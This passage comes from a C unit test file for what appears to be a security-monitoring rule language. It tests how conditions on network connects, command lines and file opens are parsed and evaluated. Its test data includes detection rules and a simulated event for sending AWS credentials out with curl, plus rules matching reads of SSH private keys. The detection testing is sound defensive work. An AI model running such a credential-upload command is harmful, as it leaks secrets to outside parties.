		{ "connect.addr == 10.0.0.0/8", false },
		{ "connect.addr == ::/0", true },
		{ "connect.addr == 0.0.0.0/0", false },
		{ "connect.family == inet6", true },
	};
	/* v4-mapped IPv6 is folded to IPv4, on both sides. */
	static const struct case_ mapped[] = {
		{ "connect.addr == 10.1.2.3", true },
		{ "connect.addr == 10.0.0.0/8", true },
		{ "connect.addr == ::ffff:10.1.2.3", true },
		{ "connect.addr == ::ffff:10.0.0.0/8", true },
		{ "connect.addr == ::/0", false },
		{ "connect.addr == 0.0.0.0/0", true },
		{ "connect.family == inet6", true },
	};
	static const struct case_ unix_[] = {
		{ "connect.addr == 0.0.0.0/0", false },
		{ "connect.addr != 1.2.3.4", false },
		{ "not connect.addr == 0.0.0.0/0", true },
		{ "connect.path == /run/docker.sock", true },
		{ "connect.path endswith .sock", true },
		{ "connect.family == unix", true },
		{ "connect.proto == stream", true },
	};
	struct tev t;

	tev__connect(&t, 1, "10.1.2.3", 443);
	CHECK_CASES(&t, v4);
	tev__connect(&t, 1, "2001:db8::1", 53);
	CHECK_CASES(&t, v6);
	tev__connect(&t, 1, "::ffff:10.1.2.3", 80);
	CHECK_CASES(&t, mapped);
	tev__connect(&t, 1, "/run/docker.sock", 0);
	CHECK_CASES(&t, unix_);
}

/* Command lines and arguments are longer than paths: every operator sees
 * them whole, so padding cannot hide a match. */
static void test_eval_long_values(void **state)
{
	static char argv[VIGIL_ARGV_MAX];
	static const char *const tests[] = {
		"exec.cmdline glob \"curl *--data*\"",
		"exec.cmdline contains \"--data\"",
		"exec.cmdline regex \"--data @\"",
		"exec.cmdline endswith \"@/root/.aws/credentials\"",
		"exec.argv glob \"x*x\"",
		"exec.argv glob \"@*\"",
	};
	struct tev t;
	size_t n = 0;

	n += snprintf(argv + n, sizeof(argv) - n, "curl") + 1;
	memset(argv + n, 'x', 6000);	/* one argument of 6000 bytes */
	n += 6000 + 1;
	n += snprintf(argv + n, sizeof(argv) - n, "--data") + 1;
	n += snprintf(argv + n, sizeof(argv) - n,
		      "@/root/.aws/credentials") + 1;
	tev__exec(&t, 1, "/usr/bin/curl", "curl");
	t.ev.exec.argv = (struct bytes){ argv, n };
	t.ev.exec.argc = 4;
	for (size_t i = 0; i < ARRAY_SIZE(tests); i++)
		if (!eval_on(tests[i], &t))
			fail_msg("'%s' is false", tests[i]);
}

/* A field the event does not carry makes its test false, whatever the
 * operator; 'not' of such a test is true. */
static void test_eval_missing(void **state)
{
	static const struct case_ cases[] = {
		{ "exec.argv == x", false },
		{ "exec.argv != x", false },
		{ "not exec.argv == x", true },
		{ "connect.addr == 0.0.0.0/0", false },
		{ "connect.addr != 1.2.3.4", false },
		{ "connect.port != 1", false },
		{ "not connect.port == 1", true },
		{ "flow.bytes >= 0", false },
		{ "not flow.bytes >= 0", true },
		{ "exit.code == 0", false },
		{ "connect.allowed == false", false },
		/* a failed open has no resolved path */
		{ "open.path == \"\"", false },
		{ "open.path != /x", false },
		{ "open.name == \"\"", false },
		{ "open.arg == \"\"", true },
	};
	struct tev t;

	tev__open(&t, 1, "", 0);
	CHECK_CASES(&t, cases);
	/* a process whose executable is unknown */
	t.proc.exe = NULL;
	assert_false(eval_on("proc.exe == \"\"", &t));
	assert_true(eval_on("proc.name == python3", &t));	/* its comm */
	t.parent.exe = NULL;
	assert_false(eval_on("parent.exe == /bin/bash", &t));
	/* an ancestor without an executable is skipped, not the end */
	assert_true(eval_on("ancestors.exe == /usr/bin/tini", &t));
	t.ev.proc = NULL;
	assert_false(eval_on("ancestors.name == tini", &t));
	assert_false(eval_on("ancestors.name != tini", &t));
}

/* '~' stands for the home of the process's user, on path fields only. */
static void test_eval_tilde(void **state)
{
	static const struct case_ root[] = {
		{ "open.path == ~/.ssh/id_rsa", true },
		{ "open.path == \"~/.ssh/id_rsa\"", true },
		{ "open.path glob \"~/.ssh/id_*\"", true },
		{ "open.path startswith ~/", true },
		{ "open.path startswith ~", true },
		{ "open.path == ~", false },
		{ "open.path in (~/.ssh/id_dsa, ~/.ssh/id_rsa)", true },
		{ "open.path regex \"~/\\.ssh/\"", true },
		/* a regex starting otherwise sees the path as it is */
		{ "open.path regex \"^~\"", false },
		{ "open.path endswith ~/.ssh/id_rsa", true },
		{ "open.path != ~/.ssh/id_rsa", false },
		/* not a '~' literal: a name starting with '~' */
		{ "open.path startswith ~.ssh", false },
		/* not a path field: '~' is a character */
		{ "open.name == ~", false },
	};
	static const struct case_ outside[] = {
		{ "open.path == ~/.ssh/id_rsa", false },
		{ "open.path glob \"~/.ssh/id_*\"", false },
		{ "open.path startswith ~/", false },
		{ "open.path startswith ~", false },
		{ "open.path != ~/.ssh/id_rsa", true },
		{ "open.path in (a, b, c, d, e, f, g, h, ~/.ssh/id_rsa)",
		  false },
	};
	struct passwd *pw = getpwnam("daemon");
	char path[256];
	struct tev t;

	tev__open(&t, 1, "/root/.ssh/id_rsa", 0);
	CHECK_CASES(&t, root);
	tev__open(&t, 1, "/root", 0);
	assert_true(eval_on("open.path == ~", &t));
	assert_true(eval_on("open.path startswith ~", &t));
	assert_false(eval_on("open.path startswith ~/", &t));
	tev__open(&t, 1, "/rootkit/.ssh/id_rsa", 0);
	CHECK_CASES(&t, outside);
	tev__open(&t, 1, "/home/u/.ssh/id_rsa", 0);
	CHECK_CASES(&t, outside);
	tev__open(&t, 1, "/", 0);
	assert_false(eval_on("open.path startswith ~", &t));
	/* a uid without a passwd entry has no home */
	tev__open(&t, 1, "/root/.ssh/id_rsa", 0);
	t.hdr.uid = 3999999;
	CHECK_CASES(&t, outside);

	/* a non-root user: its own home, not root's */
	assert_non_null(pw);
	assert_true(strcmp(pw->pw_dir, "/") && pw->pw_dir[0] == '/');
	snprintf(path, sizeof(path), "%s/.ssh/id_rsa", pw->pw_dir);
	tev__open(&t, 1, path, 0);
	t.hdr.uid = pw->pw_uid;
	CHECK_CASES(&t, root);
	tev__open(&t, 1, "/root/.ssh/id_rsa", 0);
	t.hdr.uid = pw->pw_uid;
	CHECK_CASES(&t, outside);
	/* exec.file and proc.exe are path fields too */
	snprintf(path, sizeof(path), "%s/bin/x", pw->pw_dir);
	tev__exec(&t, 1, path, "x");
	t.hdr.uid = pw->pw_uid;
	assert_true(eval_on("exec.file startswith ~/bin/", &t));
	assert_true(eval_on("proc.exe == ~/bin/x", &t));
	assert_false(eval_on("exec.name == ~/bin/x", &t));
}

static void test_eval_macros_precedence(void **state)
{
	static const struct case_ cases[] = {
		{ "is_root", true },
		{ "not is_root", false },
		{ "is_root and proc.pid == 100", true },
		{ "is_bash or is_root", true },
		/* and binds tighter than or */
		{ "proc.pid == 1 and proc.pid == 2 or proc.pid == 100", true },
		{ "proc.pid == 100 or proc.pid == 1 and proc.pid == 2", true },
		{ "(proc.pid == 100 or proc.pid == 1) and proc.pid == 2",
		  false },
		{ "proc.pid == 1 and (proc.pid == 2 or proc.pid == 100)",
		  false },
		/* not binds tighter than and */
		{ "not proc.pid == 1 and proc.pid == 2", false },
		{ "not (proc.pid == 1 and proc.pid == 2)", true },
		{ "not not is_root", true },
		{ "((((is_root))))", true },
		{ "not (is_root or is_bash)", false },
		{ "proc.pid == 1 or proc.pid == 2 or proc.pid == 3", false },
		{ "proc.pid == 1 or proc.pid == 2 or proc.pid == 100", true },
		{ "is_root and is_root and not proc.pid == 7", true },
		/* keywords are words only when whole */
		{ "proc.pid==100 and(proc.uid==0)", true },
	};
	struct tev t;
	struct cond *c;

	tev__open(&t, 1, "/tmp/x", 0);
	CHECK_CASES(&t, cases);
	t.hdr.uid = 1000;
	assert_false(eval_on("is_root", &t));
	tev__exec(&t, 1, "/bin/bash", "bash");
	assert_true(eval_on("is_bash", &t));

	c = parse("proc.pid == 1 and proc.pid == 2 or proc.pid == 3");
	assert_int_equal(c->kind, C_OR);
	assert_int_equal(c->l->kind, C_AND);
	assert_int_equal(c->r->kind, C_CMP);
	assert_int_equal(c->r->offset, 35);
	cond__free(c);
	c = parse("is_root");
	assert_int_equal(c->kind, C_REF);
	assert_ptr_equal(c->ref, is_root);
	cond__free(c);		/* the macro's tree is not owned */
}

static int count_cmp(const struct cond *c, void *arg)
{
	(*(int *)arg)++;
	return strcmp(c->cmp.field->name, "proc.pid") ? 0 : 7;
}

static void test_walk(void **state)
{
	struct cond *c = parse("is_root and not (is_bash or open.write) "
			       "or proc.pid == 3");
	int n = 0;

	/* macros followed; the first non-zero result stops the walk */
	assert_int_equal(cond__walk(c, count_cmp, &n), 7);
	assert_int_equal(n, 4);
	cond__free(c);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_error_lexer),
		cmocka_unit_test(test_error_names),
		cmocka_unit_test(test_error_operator_type),
		cmocka_unit_test(test_error_literals),
		cmocka_unit_test(test_error_lists),
		cmocka_unit_test(test_error_structure),
		cmocka_unit_test(test_error_depth),
		cmocka_unit_test(test_error_first_wins),
		cmocka_unit_test(test_eval_strings),
		cmocka_unit_test(test_eval_lists),
		cmocka_unit_test(test_eval_filesets),
		cmocka_unit_test(test_eval_stdio_killed),
		cmocka_unit_test(test_eval_budget),
		cmocka_unit_test(test_eval_numbers),
		cmocka_unit_test(test_eval_bools),
		cmocka_unit_test(test_eval_addrs),
		cmocka_unit_test(test_eval_long_values),
		cmocka_unit_test(test_eval_missing),
		cmocka_unit_test(test_eval_tilde),
		cmocka_unit_test(test_eval_macros_precedence),
		cmocka_unit_test(test_walk),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
